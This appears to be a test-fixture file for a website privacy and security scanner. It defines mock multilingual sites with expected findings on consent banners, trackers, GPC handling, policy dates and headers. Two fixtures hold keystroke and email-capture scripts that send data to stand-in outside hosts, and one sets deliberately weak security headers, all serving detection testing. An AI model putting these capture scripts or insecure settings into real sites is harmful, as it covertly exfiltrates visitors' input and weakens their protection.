import { reply } from "../../../demo/respond.ts";
import { type Case, CLEAN, PAGE_DOUBT, PAGE_HEADERS, WALL, WALLED } from "../case.ts";
import { banner, bar, bare, button, EN_POLICY, GA, GOOD_HEADERS, META, page } from "../page.ts";

const DE_POLICY =
  "<p>Stand: 4. Mai 2026</p><p>Verantwortlich ist die Segelmacherei Nord GmbH, Kiel. Wir verwenden Daten zum Zweck der Lieferung auf Grundlage des Vertrags (Art. 6). Empfänger sind unsere Dienstleister. Eine Übermittlung in Drittländer findet nicht statt. Die Speicherdauer beträgt sieben Jahre. Sie haben das Recht auf Auskunft und Löschung und können sich bei der Aufsichtsbehörde beschweren. Kontakt: post@segel.example</p>";

/** Odd ways of doing ordinary things. */
export const corners: readonly Case[] = [
  {
    host: "menu-bouton.example",
    truth: { defect: PAGE_HEADERS, fine: `${CLEAN} policy.link policy.freshness` },
    othersSoundBut: PAGE_DOUBT,
    site: page({
      lang: "fr",
      title: "Chalet d’alpage",
      paths: {
        "/confidentialite":
          "<!doctype html><html lang=fr><title>Confidentialité</title><h1>Confidentialité</h1><p>Mise à jour : 3 juillet 2026. Le chalet est responsable du traitement de vos données personnelles.</p>",
      },
      body: `<button onclick="location.href='/confidentialite'">Politique de confidentialité</button>`,
    }),
  },
  {
    host: "anker.example",
    truth: { defect: PAGE_HEADERS, fine: `${CLEAN} policy.link policy.sections policy.freshness` },
    othersSoundBut: PAGE_DOUBT,
    site: page({
      lang: "de",
      title: "Segelmacherei",
      head: "<style>#datenschutz{display:none}#datenschutz:target{display:block}</style>",
      body: `<a href="#datenschutz">Datenschutzerklärung</a><section id="datenschutz"><h2>Datenschutzerklärung</h2>${DE_POLICY}</section>`,
    }),
  },
  {
    host: "teclas.example",
    truth: { defect: `${PAGE_HEADERS} keystroke.capture` },
    othersSoundBut: `${PAGE_DOUBT} consent.banner-present consent.trackers-before replay.present tracking.streams form.minimisation pixel.present pixel.hashed-identifiers`,
    site: page({
      lang: "es",
      title: "Buscador de recetas",
      link: "Privacidad",
      policy: "<p>Última actualización: 2 de junio de 2026</p>",
      body: `<input id="b" name="correo" placeholder="Tu correo"><script>b.addEventListener("keydown",function(e){navigator.sendBeacon("https://t.desconocida.example/k",JSON.stringify({t:Date.now(),k:e.key}))})</script>`,
    }),
  },
  {
    host: "sixteen.example",
    truth: { defect: `${PAGE_HEADERS} keystroke.capture` },
    othersSoundBut: `${PAGE_DOUBT} consent.banner-present consent.trackers-before replay.present form.minimisation pixel.hashed-identifiers pixel.present`,
    site: page({
      lang: "en",
      title: "Sign the petition",
      link: "Privacy",
      policy: EN_POLICY,
      body: `<form method="post"><input type="email" name="e"><button>Sign</button></form><script>document.querySelector("input").onchange=function(){var h=[].map.call(this.value,function(c){return c.charCodeAt(0).toString(16)}).join("");fetch("https://in.kto-wie.example/z?d="+h,{mode:"no-cors"})}</script>`,
    }),
  },
  {
    host: "im-dienst.example",
    truth: { defect: `${PAGE_HEADERS} consent.trackers-before consent.banner-present` },
    othersSoundBut: PAGE_DOUBT,
    site: page({
      lang: "de",
      title: "Wanderkarten",
      link: "Datenschutz",
      policy: DE_POLICY,
      paths: {
        "/w.js": `fetch("https://www.google-analytics.com/g/collect?v=2&tid=G-1&cid=12345.6789&en=page_view",{method:"POST",mode:"no-cors"})`,
      },
      body: `<script>new Worker("/w.js")</script>`,
    }),
  },
  {
    host: "sin-script.example",
    truth: { defect: PAGE_HEADERS, fine: CLEAN, nothing: "consent.banner-present" },
    othersSoundBut: PAGE_DOUBT,
    site: page({
      lang: "es",
      title: "Huerto escolar",
      link: "Privacidad",
      policy: "<p>Última actualización: 2 de junio de 2026</p>",
      head: `<link rel="preconnect" href="https://www.googletagmanager.com"><link rel="dns-prefetch" href="https://connect.facebook.net">`,
      body: `<noscript><img src="https://www.facebook.com/tr/?id=123456789012345&ev=PageView&noscript=1" alt=""></noscript>`,
    }),
  },
  {
    host: "tbilisi.example",
    truth: {
      defect: PAGE_HEADERS,
      fine: "consent.banner-present consent.reject-offered-first-layer consent.reject-works consent.equal-choice",
    },
    othersSoundBut: `${PAGE_DOUBT} consent.withdraw-link cookie.lifetime policy.freshness`,
    site: page({
      lang: "ka",
      title: "Tbilisi bread",
      link: "Privacy",
      policy: EN_POLICY,
      body: banner("ჩვენ ვიყენებთ cookie ფაილებს სტატისტიკისთვის.", "უარყოფა", "მიღება", GA),
    }),
  },
  {
    host: "kaiin.example",
    territories: ["JP"],
    truth: { open: WALL },
    site: bare(
      `<!doctype html><html lang="ja"><title>会員サイト</title><h1>会員サイトへようこそ</h1><form method="post" action="/s"><input name="id"><input type="password" name="pw"><button>送信</button></form>`,
    ),
  },
  {
    host: "einmal.example",
    truth: {
      fine: "consent.banner-present",
      open: "consent.reject-works pixel.present consent.withdraw-link gpc.honoured",
    },
    site: (() => {
      let visits = 0;
      const site = page({
        lang: "de",
        title: "Kartenvorverkauf",
        link: "Datenschutz",
        policy: DE_POLICY,
        body: banner("Wir setzen mit Ihrer Einwilligung Cookies.", "Ablehnen", "Zustimmen", META),
      });
      return (q, r) => {
        const start =
          q.url === "/" &&
          String(q.headers["user-agent"]).includes("Mozilla") &&
          q.headers["sec-fetch-dest"] === "document";
        if (start) visits += 1;
        if (start && visits > 1)
          return reply(r, { status: 429, type: "text/html", body: "<h1>Too many requests</h1>" });
        return site(q, r);
      };
    })(),
  },
  {
    host: "srcdoc.example",
    truth: { defect: `${PAGE_HEADERS} consent.trackers-before pixel.present consent.banner-present` },
    othersSoundBut: PAGE_DOUBT,
    site: page({
      lang: "en",
      title: "Village fair",
      link: "Privacy",
      policy: EN_POLICY,
      body: `<iframe srcdoc="&lt;img src='https://www.facebook.com/tr/?id=123456789012345&amp;ev=PageView'&gt;"></iframe>`,
    }),
  },
  {
    host: "stilblatt.example",
    truth: {
      defect: `${PAGE_HEADERS} consent.trackers-before consent.third-party-cookies-before consent.cookies-before consent.banner-present`,
    },
    othersSoundBut: `${PAGE_DOUBT} pixel.present`,
    also: [
      {
        hosts: ["ad.doubleclick.net"],
        https: (_, r) =>
          reply(r, {
            type: "image/gif",
            body: "",
            cookies: [
              "IDE=AHWqTUm0123456789abcdef; Domain=doubleclick.net; Path=/; Secure; SameSite=None; Max-Age=34128000",
            ],
          }),
      },
    ],
    site: page({
      lang: "de",
      title: "Buchbinderei",
      link: "Datenschutz",
      policy: DE_POLICY,
      head: `<style>h1{background:url(https://ad.doubleclick.net/activity;src=1;type=a)}</style>`,
    }),
  },
  {
    host: "navigeert.example",
    truth: {
      defect: `${PAGE_HEADERS} consent.withdraw-link`,
      fine: "consent.banner-present consent.reject-works consent.trackers-before consent.cookies-before",
    },
    othersSoundBut: `${PAGE_DOUBT} consent.equal-choice cookie.lifetime`,
    site: (q, r) => {
      const asked = /[?&]cookies=(ja|nee)/.exec(q.url ?? "")?.[1];
      if (asked)
        return reply(r, {
          status: 302,
          headers: { location: "/" },
          cookies: [`cookie_voorkeur=${asked}; Path=/; Max-Age=8640000; Secure; SameSite=Lax`],
        });
      const chosen = /cookie_voorkeur=(\w+)/.exec(q.headers.cookie ?? "")?.[1];
      return page({
        lang: "nl",
        title: "Het poppentheater",
        link: "Privacyverklaring",
        policy: "<p>Laatst bijgewerkt: 4 april 2026</p>",
        body: chosen
          ? chosen === "ja"
            ? `<script>${GA}</script>`
            : ""
          : `<div style="${bar}">Mogen wij cookies plaatsen om bezoek te meten? <a style="${button}" href="/?cookies=nee">Weigeren</a> <a style="${button}" href="/?cookies=ja">Toestaan</a></div>`,
      })(q, r);
    },
  },
  {
    host: "signal-heard.example",
    territories: ["US"],
    truth: {
      fine: "gpc.honoured ccpa.opt-out-link",
      defect: `${PAGE_HEADERS} consent.trackers-before pixel.present consent.cookies-before`,
    },
    othersSoundBut: `${PAGE_DOUBT} consent.banner-present`,
    site: page({
      lang: "en-US",
      title: "Canoe rental",
      link: "Privacy Policy",
      policy: EN_POLICY,
      body: `<a href="/choices">Your Privacy Choices</a><script>if(!navigator.globalPrivacyControl){${META}}</script>`,
    }),
  },
  {
    host: "signal-lost.example",
    territories: ["US"],
    truth: {
      defect: `${PAGE_HEADERS} consent.signals gpc.honoured ccpa.opt-out-link pixel.present consent.trackers-before consent.cookies-before`,
    },
    othersSoundBut: `${PAGE_DOUBT} consent.banner-present`,
    site: page({
      lang: "en-US",
      title: "Skate shop",
      link: "Privacy Policy",
      policy: EN_POLICY,
      body: `<script>window.__gpp=function(c,f){f({gppString:"DBABLA~BVQqAAAAAgA.QA"},true)};${META}</script>`,
    }),
  },
  {
    host: "zaehlt-selbst.example",
    truth: { open: "tracking.first-party-disguise", defect: `${PAGE_HEADERS} consent.cookies-before` },
    othersSoundBut: `${PAGE_DOUBT} consent.trackers-before consent.banner-present replay.present`,
    also: [
      {
        hosts: ["zahlen.zaehlt-selbst.example"],
        https: (_, r) => reply(r, { status: 204 }),
      },
    ],
    site: page({
      lang: "de",
      title: "Imkerei",
      link: "Datenschutz",
      policy: DE_POLICY,
      body: `<script>document.cookie="_pk_id.1.1fff=a1b2c3d4e5f60718.1700000000;path=/;max-age=33868800";new Image().src="https://zahlen.zaehlt-selbst.example/matomo.php?idsite=1&rec=1&_id=a1b2c3d4e5f60718"</script>`,
    }),
  },
  {
    host: "session.example",
    truth: { fine: "cookie.flags consent.cookies-before", defect: `${PAGE_HEADERS} form.insecure` },
    othersSoundBut: PAGE_DOUBT,
    site: page({
      lang: "en",
      title: "Reading room",
      link: "Privacy",
      policy: EN_POLICY,
      cookies: ["__Host-sid=9f8e7d6c5b4a39281706f5e4; Path=/; Secure; HttpOnly; SameSite=Lax"],
      paths: {
        "/login": `<!doctype html><html lang=en><title>Sign in</title><h1>Sign in</h1><form action="/in"><input name="user"><input type="password" name="pass"><button>Sign in</button></form>`,
      },
      body: `<a href="/login">Sign in</a>`,
    }),
  },
  {
    host: "schwach.example",
    truth: {
      defect: `hdr.hsts hdr.frame hdr.referrer hdr.nosniff hdr.csp hdr.hsts-preload hdr.isolation security-txt tls.redirect hdr.permissions`,
    },
    othersSoundBut: PAGE_DOUBT,
    site: page({
      lang: "de",
      title: "Eisdiele",
      link: "Datenschutz",
      policy: DE_POLICY,
      headers: {
        "strict-transport-security": "max-age=0",
        "x-frame-options": "ALLOW-FROM https://freund.example",
        "referrer-policy": "origin, unsafe-url",
        "content-security-policy": "script-src * 'unsafe-inline'; object-src *",
        "cross-origin-opener-policy": "unsafe-none",
      },
    }),
  },
  {
    host: "stare-wersje.example",
    truth: { fine: "policy.link", defect: `${PAGE_HEADERS} policy.freshness` },
    othersSoundBut: PAGE_DOUBT,
    site: page({
      lang: "it",
      title: "Falegnameria",
      link: "Informativa sulla privacy",
      policy:
        "<p>Ultimo aggiornamento: 3 gennaio 2024. Il GDPR è in vigore dal 25 maggio 2018.</p><p>© 2026 Falegnameria</p>",
    }),
  },
  {
    host: "naver-named.example",
    territories: ["KR"],
    truth: {
      fine: "policy.discloses-recipients",
      defect: `${PAGE_HEADERS} consent.trackers-before consent.cookies-before consent.banner-present`,
    },
    othersSoundBut: PAGE_DOUBT,
    site: page({
      lang: "ko",
      title: "바닷가 카페",
      link: "개인정보처리방침",
      policy:
        "<p>시행일자: 2026. 3. 2.</p><p>제3자 제공: 네이버 애널리틱스(네이버 주식회사)에 방문 기록을 제공합니다.</p>",
      body: `<script src="https://wcs.naver.net/wcslog.js"></script>`,
    }),
  },
  {
    host: "nos-eua.example",
    territories: ["BR"],
    truth: {
      defect: `${PAGE_HEADERS} consent.cookies-before consent.trackers-before consent.banner-present cookie.lifetime`,
      fine: "policy.discloses-transfers",
    },
    othersSoundBut: PAGE_DOUBT,
    site: page({
      lang: "pt-BR",
      title: "Loja de discos",
      link: "Política de Privacidade",
      policy:
        "<p>Atualizado em 3 de maio de 2026</p><p>Alguns prestadores ficam fora do país: os seus dados podem ser enviados para os Estados Unidos, com cláusulas-padrão.</p>",
      body: `<script>${GA}</script>`,
    }),
  },
  {
    host: "abonnez.example",
    truth: {
      defect: `${PAGE_HEADERS} consent.no-wall consent.equal-choice consent.reject-offered-first-layer consent.withdraw-link`,
      open: WALLED,
    },
    othersSoundBut: `${PAGE_DOUBT} consent.reject-works`,
    site: page({
      lang: "fr",
      title: "La Gazette",
      link: "Confidentialité",
      policy: "<p>Mise à jour : 3 juillet 2026</p>",
      body: `<div role="dialog" aria-modal="true" style="position:fixed;inset:0;background:#fff;padding:60px"><p>Avec votre accord, nos partenaires utilisent des cookies publicitaires. Sinon, abonnez-vous.</p><button style="${button}" onclick="this.parentElement.remove()">Accepter et lire gratuitement</button> <button style="${button}">S’abonner à 1 € par semaine</button></div><p>${"Un long article sur le port et ses pêcheurs. ".repeat(60)}</p>`,
    }),
  },
  {
    host: "blass.example",
    truth: {
      defect: `${PAGE_HEADERS} consent.equal-choice consent.withdraw-link cookie.lifetime`,
      fine: "consent.reject-works consent.reject-offered-first-layer",
    },
    othersSoundBut: PAGE_DOUBT,
    site: page({
      lang: "de",
      title: "Reitstall",
      link: "Datenschutz",
      policy: DE_POLICY,
      body: banner("Wir möchten Cookies zur Statistik setzen.", "Alles ablehnen", "Alles akzeptieren", GA, {
        noStyle:
          "font:16px sans-serif;padding:10px 18px;background:#f4f4f4;color:#c9c9c9;border:1px solid #eee",
      }),
    }),
  },
  {
    host: "gelijk.example",
    truth: {
      defect: `${PAGE_HEADERS} consent.withdraw-link cookie.lifetime`,
      fine: "consent.equal-choice consent.reject-works consent.no-wall",
    },
    othersSoundBut: PAGE_DOUBT,
    site: page({
      lang: "nl",
      title: "Stadsmuseum",
      link: "Privacyverklaring",
      policy: "<p>Laatst bijgewerkt: 4 april 2026</p>",
      body: banner("Wij gebruiken graag cookies voor statistiek.", "Alles weigeren", "Alles accepteren", GA, {
        noStyle: "font:16px sans-serif;padding:10px 18px;background:#24323f;color:#fff;border:0",
      }),
    }),
  },
  {
    host: "minified.example",
    truth: { defect: `${PAGE_HEADERS} js.vulnerable tls.redirect`, nothing: "sri", fine: "hdr.nosniff" },
    othersSoundBut: PAGE_DOUBT,
    site: page({
      lang: "en",
      title: "Allotments",
      link: "Privacy",
      policy: EN_POLICY,
      headers: GOOD_HEADERS,
      paths: { "/vendor/jquery-1.8.3.min.js": "(function(){})()" },
      body: `<script src="/vendor/jquery-1.8.3.min.js"></script>`,
    }),
  },
];
